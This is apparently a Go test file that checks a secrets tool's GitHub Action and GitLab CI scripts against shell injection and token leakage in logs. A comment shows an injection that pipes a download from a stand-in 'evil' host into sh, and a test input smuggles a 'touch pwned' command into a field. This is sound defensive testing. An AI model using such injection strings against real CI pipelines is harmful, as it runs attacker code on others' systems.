package manifest

// The CI integration files (action.yml, the GitLab template) are shell in
// YAML; they live with the manifest because `tokenward check` is their main
// user, and these tests run their scripts with a stub tokenward on PATH.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

const (
	actionFile = "../../action.yml"
	gitlabFile = "../../ci/gitlab/tokenward.gitlab-ci.yml"
)

type actionStep struct {
	ID    string            `yaml:"id"`
	Name  string            `yaml:"name"`
	Shell string            `yaml:"shell"`
	Env   map[string]string `yaml:"env"`
	Run   string            `yaml:"run"`
}

func loadAction(t *testing.T) []actionStep {
	t.Helper()
	data, err := os.ReadFile(actionFile)
	if err != nil {
		t.Fatal(err)
	}
	var a struct {
		Runs struct {
			Using string       `yaml:"using"`
			Steps []actionStep `yaml:"steps"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal(data, &a); err != nil {
		t.Fatalf("action.yml: %v", err)
	}
	if a.Runs.Using != "composite" || len(a.Runs.Steps) != 2 {
		t.Fatalf("action.yml: got using %q with %d steps; want composite with 2", a.Runs.Using, len(a.Runs.Steps))
	}
	return a.Runs.Steps
}

// An expression inside a script is pasted into it before the shell runs:
// an input like `"; curl evil | sh` would run. Inputs go through env only.
func TestActionScriptsTakeInputsFromEnvOnly(t *testing.T) {
	for _, s := range loadAction(t) {
		if strings.Contains(s.Run, "${{") {
			t.Errorf("step %q: the script holds an expression; pass it through env", s.Name)
		}
		if s.Shell != "bash" {
			t.Errorf("step %q: got shell %q; want bash", s.Name, s.Shell)
		}
		if out, err := exec.Command("bash", "-n", "-c", s.Run).CombinedOutput(); err != nil {
			t.Errorf("step %q: bash -n: %v\n%s", s.Name, err, out)
		}
	}
}

const stubToken = "twj_0123456789abcdefghijklmnopqrstuvwxyzABCDEFG0000"

// stubPath puts a fake tokenward on PATH that records its arguments, one per
// line, in dir/args.<subcommand>, prints a token for login and exits with
// $STUB_EXIT.
func stubPath(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	stub := `#!/bin/sh
out="$STUB_DIR/args.$1"
: > "$out"
for a in "$@"; do printf '%s\n' "$a" >> "$out"; done
case "$1" in
  login) echo "` + stubToken + `"; exit 0 ;;
  check) echo "report"; [ -n "${TOKENWARD_TOKEN:-}" ] || exit 9 ;;
  export) [ -n "${TOKENWARD_TOKEN:-}" ] || exit 9 ;;
esac
exit "${STUB_EXIT:-0}"
`
	if err := os.WriteFile(filepath.Join(dir, "tokenward"), []byte(stub), 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

func readArgs(t *testing.T, dir, sub string) []string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "args."+sub))
	if err != nil {
		return nil
	}
	return strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
}

func TestActionModes(t *testing.T) {
	step := loadAction(t)[1]
	inputs := map[string]string{ // the action's defaults
		"TW_MODE": "run", "TOKENWARD_ADDR": "https://tw.example", "TW_ENV": "", "TW_RUN": "", "TW_ONLY": "",
		"TW_PREFIX": "", "TW_OIDC": "true", "TW_AUDIENCE": "tokenward", "TW_BINDING": "", "TW_TOKEN": "",
		"TW_MANIFEST": "tokenward.yaml", "TW_CHECK_ENV": "", "TW_CHECK_OUTPUT": "text", "TW_CHECK_FILE": "", "TW_STRICT": "false",
	}
	for k := range step.Env {
		if _, ok := inputs[k]; !ok {
			t.Fatalf("action.yml passes %s, which this test does not know", k)
		}
	}
	const hostile = `x"; touch pwned; echo "`
	tests := []struct {
		name     string
		set      map[string]string
		oidc     bool
		stubExit string
		wantCode int
		wantArgs map[string][]string
	}{
		{"run with oidc", map[string]string{"TW_ENV": "payments/prod", "TW_RUN": "./deploy.sh --fast", "TW_ONLY": "A,B", "TW_BINDING": "deploy-prod"}, true, "0", 0,
			map[string][]string{"run": {"run", "--oidc", "--audience", "tokenward", "--binding", "deploy-prod", "--env", "payments/prod", "--only", "A,B", "--", "bash", "-eo", "pipefail", "-c", "./deploy.sh --fast"}}},
		{"run exit code passes through", map[string]string{"TW_ENV": "payments/prod", "TW_RUN": "false"}, true, "42", 42,
			map[string][]string{"run": {"run", "--oidc", "--audience", "tokenward", "--env", "payments/prod", "--", "bash", "-eo", "pipefail", "-c", "false"}}},
		{"run without oidc permission", map[string]string{"TW_ENV": "payments/prod", "TW_RUN": "x"}, false, "0", 2, nil},
		{"hostile inputs stay arguments", map[string]string{"TW_ENV": hostile, "TW_RUN": "x", "TW_PREFIX": hostile}, true, "0", 0,
			map[string][]string{"run": {"run", "--oidc", "--audience", "tokenward", "--env", hostile, "--prefix", hostile, "--", "bash", "-eo", "pipefail", "-c", "x"}}},
		{"export with oidc", map[string]string{"TW_MODE": "export", "TW_ENV": "payments/prod", "TW_PREFIX": "APP_"}, true, "0", 0,
			map[string][]string{
				"login":  {"login", "--oidc", "--audience", "tokenward"},
				"export": {"export", "--env", "payments/prod", "--format", "github", "--prefix", "APP_"},
			}},
		{"export with a token", map[string]string{"TW_MODE": "export", "TW_ENV": "payments/prod", "TW_OIDC": "false", "TW_TOKEN": stubToken}, false, "0", 0,
			map[string][]string{"export": {"export", "--env", "payments/prod", "--format", "github"}}},
		{"export without a token", map[string]string{"TW_MODE": "export", "TW_ENV": "payments/prod", "TW_OIDC": "false"}, false, "0", 2, nil},
		{"export without env", map[string]string{"TW_MODE": "export"}, true, "0", 2, nil},
		{"check strict into a file", map[string]string{"TW_MODE": "check", "TW_CHECK_ENV": "prod", "TW_STRICT": "true", "TW_CHECK_OUTPUT": "junit", "TW_CHECK_FILE": "report.xml"}, true, "3", 3,
			map[string][]string{"check": {"check", "--manifest", "tokenward.yaml", "--output", "junit", "--env", "prod", "--strict"}}},
		{"no server", map[string]string{"TOKENWARD_ADDR": "", "TW_ENV": "p/e", "TW_RUN": "x"}, true, "0", 2, nil},
		{"unknown mode", map[string]string{"TW_MODE": "deploy"}, true, "0", 2, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stub := stubPath(t)
			work := t.TempDir()
			cmd := exec.Command("bash", "-c", step.Run)
			cmd.Dir = work
			cmd.Env = []string{"PATH=" + stub + ":" + os.Getenv("PATH"), "STUB_DIR=" + stub, "STUB_EXIT=" + tt.stubExit}
			if tt.oidc {
				cmd.Env = append(cmd.Env, "ACTIONS_ID_TOKEN_REQUEST_URL=https://token.example/x")
			}
			for k, v := range inputs {
				if s, ok := tt.set[k]; ok {
					v = s
				}
				cmd.Env = append(cmd.Env, k+"="+v)
			}
			out, _ := cmd.CombinedOutput()
			if got := cmd.ProcessState.ExitCode(); got != tt.wantCode {
				t.Fatalf("exit code: got %d; want %d\n%s", got, tt.wantCode, out)
			}
			for sub, want := range tt.wantArgs {
				if got := readArgs(t, stub, sub); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
					t.Errorf("tokenward %s args:\ngot  %q\nwant %q", sub, got, want)
				}
			}
			if _, err := os.Stat(filepath.Join(work, "pwned")); err == nil {
				t.Errorf("a hostile input ran a command")
			}
			// The token shows only in the mask command, which GitHub
			// swallows; never anywhere else in the log.
			log := strings.ReplaceAll(string(out), "::add-mask::"+stubToken, "")
			if strings.Contains(log, stubToken) {
				t.Errorf("the token reached the log:\n%s", out)
			}
			if tt.wantArgs["export"] != nil && !strings.HasPrefix(string(out), "::add-mask::"+stubToken+"\n") {
				t.Errorf("output: got %q; want the token masked first", out)
			}
			if tt.set["TW_CHECK_FILE"] != "" {
				if b, err := os.ReadFile(filepath.Join(work, tt.set["TW_CHECK_FILE"])); err != nil || string(b) != "report\n" {
					t.Errorf("check file: got %q, %v; want the report", b, err)
				}
			}
		})
	}
}

func loadGitLab(t *testing.T) map[string]struct {
	Variables    map[string]string `yaml:"variables"`
	BeforeScript []string          `yaml:"before_script"`
	Script       []string          `yaml:"script"`
	Extends      string            `yaml:"extends"`
} {
	t.Helper()
	data, err := os.ReadFile(gitlabFile)
	if err != nil {
		t.Fatal(err)
	}
	var jobs map[string]struct {
		Variables    map[string]string `yaml:"variables"`
		BeforeScript []string          `yaml:"before_script"`
		Script       []string          `yaml:"script"`
		Extends      string            `yaml:"extends"`
	}
	if err := yaml.Unmarshal(data, &jobs); err != nil {
		t.Fatalf("GitLab template: %v", err)
	}
	return jobs
}

func TestGitLabTemplate(t *testing.T) {
	jobs := loadGitLab(t)
	for _, name := range []string{".tokenward", ".tokenward-run", ".tokenward-check", ".tokenward-export"} {
		job, ok := jobs[name]
		if !ok {
			t.Errorf("job %s: missing", name)
			continue
		}
		if name != ".tokenward" && job.Extends != ".tokenward" {
			t.Errorf("job %s: got extends %q; want .tokenward", name, job.Extends)
		}
		for _, s := range append(job.BeforeScript, job.Script...) {
			if out, err := exec.Command("sh", "-n", "-c", s).CombinedOutput(); err != nil {
				t.Errorf("job %s: sh -n: %v\n%s", name, err, out)
			}
		}
	}
}

func TestGitLabCheckScript(t *testing.T) {
	script := loadGitLab(t)[".tokenward-check"].Script[0]
	tests := []struct {
		name     string
		env      []string
		stubExit string
		want     int
		wantArgs []string
	}{
		{"ok", []string{"TOKENWARD_CHECK_ENV=", "TOKENWARD_STRICT=false"}, "0", 0,
			[]string{"check", "--manifest", "tokenward.yaml"}},
		{"errors fail the job", []string{"TOKENWARD_CHECK_ENV=prod", "TOKENWARD_STRICT=true"}, "1", 1,
			[]string{"check", "--manifest", "tokenward.yaml", "--env", "prod", "--strict"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stub := stubPath(t)
			work := t.TempDir()
			cmd := exec.Command("sh", "-c", script)
			cmd.Dir = work
			cmd.Env = append([]string{"PATH=" + stub + ":" + os.Getenv("PATH"), "STUB_DIR=" + stub, "STUB_EXIT=" + tt.stubExit,
				"TOKENWARD_MANIFEST=tokenward.yaml"}, tt.env...)
			out, _ := cmd.CombinedOutput()
			if got := cmd.ProcessState.ExitCode(); got != tt.want {
				t.Fatalf("exit code: got %d; want %d\n%s", got, tt.want, out)
			}
			// The stub records the last call: the readable one.
			if got := readArgs(t, stub, "check"); strings.Join(got, " ") != strings.Join(tt.wantArgs, " ") {
				t.Errorf("check args: got %q; want %q", got, tt.wantArgs)
			}
			if b, err := os.ReadFile(filepath.Join(work, "tokenward-check.xml")); err != nil || string(b) != "report\n" {
				t.Errorf("junit file: got %q, %v; want the report", b, err)
			}
			if strings.Contains(string(out), stubToken) {
				t.Errorf("the token reached the log:\n%s", out)
			}
		})
	}
}
